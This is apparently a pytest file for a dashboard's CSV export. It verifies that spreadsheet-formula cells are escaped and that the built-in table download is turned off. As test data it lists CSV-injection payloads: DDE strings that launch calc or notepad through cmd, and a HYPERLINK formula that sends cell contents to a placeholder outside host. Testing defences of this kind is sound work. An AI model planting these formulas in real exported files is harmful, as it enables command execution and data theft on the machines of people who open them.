"""CSV injection: no cell of a CSV the app writes starts a spreadsheet formula, and the tables'
built-in "Download as CSV" is off however the app is started."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from dashboard import csvsafe

FORMULAS = ("=HYPERLINK(\"http://outside.invalid/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=cmd|' /C notepad'!'A1'")


def _cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for c in row]


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_are_neutralised(payload):
    frame = pd.DataFrame({"name": [payload, "plain"], "weight": [-3, 2]})
    cells = _cells(csvsafe.to_csv(frame))
    assert f"'{payload}" in cells
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_STARTS) and c != "-3"]
    assert "-3" in cells  # numbers stay numbers


def test_edge_export_csv_neutralises_names():
    data = pytest.importorskip("dashboard.export.data")
    graphfiles = pytest.importorskip("dashboard.export.graphfiles")
    view = pytest.importorskip("dashboard.export.view")
    edges = pd.DataFrame([{"source": "USA", "target": "=cmd|'/C calc'!A0",
                           "relation": "sanction", "stance": "hostile", "directed": True,
                           "weight": 2, "publishers": 1, "statements": 2,
                           "first_date": dt.date(2024, 1, 2), "last_date": dt.date(2024, 1, 3),
                           "event": "sanction", "cameo": "16"}])
    vd = data.ViewData(view=view.ExportView(), edges=edges,
                       names={"USA": "@SUM(1)", "=cmd|'/C calc'!A0": "+evil"},
                       actors_shown=2, actors_total=2, timeline=pd.DataFrame(),
                       sources=pd.DataFrame(), first=dt.date(2024, 1, 1),
                       last=dt.date(2024, 2, 1))
    cells = _cells(graphfiles.to_csv(vd))
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_STARTS)], cells
    assert "'@SUM(1)" in cells and "'+evil" in cells


def test_table_download_is_off(monkeypatch, tmp_path):
    """Off in the project's config, and switched off by the app itself when it runs without
    that config (started from another folder)."""
    from streamlit import config
    from streamlit.testing.v1 import AppTest

    root = Path(__file__).resolve().parents[2]
    project = tomllib.loads((root / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert project["client"]["disableDataExport"] is True
    config.set_option("client.disableDataExport", False)
    monkeypatch.setenv("ALLIANCE_ATLAS_DB", str(tmp_path / "none.duckdb"))
    AppTest.from_file(str(root / "dashboard" / "app.py"), default_timeout=90).run()
    assert config.get_option("client.disableDataExport") is True
